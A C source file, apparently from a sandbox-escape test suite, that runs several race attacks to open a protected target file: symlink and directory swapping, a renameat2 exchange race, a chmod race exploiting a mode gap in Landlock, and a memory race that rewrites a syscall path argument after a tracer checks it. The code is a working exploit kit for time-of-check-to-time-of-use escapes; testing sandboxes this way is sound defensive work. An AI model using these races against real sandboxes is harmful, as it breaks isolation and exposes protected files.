/* Exchanging what a name or an argument means between the look of a sandbox and that of the kernel. */
#include "escape.h"

#include <pthread.h>
#include <time.h>

static volatile int racing;
static char folder[4096];

static void *swap_links(void *unused)
{
	(void)unused;
	while (racing) {
		unlink("race");
		(void)!mkdir("race", 0700);
		rmdir("race");
		(void)!symlink(folder, "race");
	}
	return NULL;
}

static void *swap_names(void *unused)
{
	(void)unused;
	while (racing)
		syscall(SYS_renameat2, AT_FDCWD, "race", AT_FDCWD, "link", 2 /* exchange */);
	return NULL;
}

/* The argument itself, and what a tracer may have made of it: below the red zone of the caller's stack, at a distance that
 * depends on the length of a path that only the tracer knows. */
static char argument[4096];
static char *volatile stack;
static void *write_memory(void *unused)
{
	(void)unused;
	size_t length = strlen(target.file) + 1;
	while (racing) {
		for (size_t other = 10; other < 300 && racing; other++)
			for (int i = 0; i < 1000 && racing; i++) {
				memcpy(argument, target.file, length);
				if (stack)
					memcpy(stack - 128 - other, target.file, length);
				argument[0] = '\0';
			}
	}
	return NULL;
}

__attribute__((noinline)) static int open_argument(void)
{
	long result;
#ifdef __x86_64__
	char *pointer;
	__asm__ volatile("mov %%rsp, %0" : "=r"(pointer));
	stack = pointer;
	__asm__ volatile("syscall" : "=a"(result) : "a"(SYS_open), "D"(argument), "S"(O_RDONLY), "d"(0)
			 : "rcx", "r11", "memory");
#else
	result = open(argument, O_RDONLY);
#endif
	return result < 0 ? -1 : (int)result;
}

static int open_path(void) { return open("race/file", O_RDONLY); }

/* Not the content but the mode, which Landlock does not guard. */
static int change_mode(void) { return chmod("race/file", 0644) == 0 ? open("/proc/self/exe", O_RDONLY) : -1; }

/* For half a second, as the other thread may have to wait for a processor. */
static int race(void *(*swap)(void *), int (*attempt)(void), int is_open)
{
	pthread_t thread;
	struct timespec start, now;
	int escaped = 0;

	racing = 1;
	pthread_create(&thread, NULL, swap, NULL);
	clock_gettime(CLOCK_MONOTONIC, &start);
	do {
		int descriptor = attempt();
		escaped = is_open ? is_secret(descriptor) : descriptor >= 0;
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while (!escaped && (now.tv_sec - start.tv_sec) * 1000 + (now.tv_nsec - start.tv_nsec) / 1000000 < 500);
	racing = 0;
	pthread_join(thread, NULL);
	return escaped;
}

static int race_memory(void) { return race(write_memory, open_argument, 1); }

void try_races(void)
{
	snprintf(folder, sizeof(folder), "%.*s", (int)(strrchr(target.file, '/') - target.file), target.file);
	tell("link-race", race(swap_links, open_path, 1));
	tell("chmod-race", race(swap_links, change_mode, 0));
	rmdir("race");
	unlink("race");
	(void)!mkdir("race", 0700);
	(void)!symlink(folder, "link");
	tell("rename-race", race(swap_names, open_path, 1));
	unlink("race");
	unlink("link");
	rmdir("race");
	rmdir("link");
	/* It may break its own stack. */
	tell("memory-race", in_child(race_memory));
}
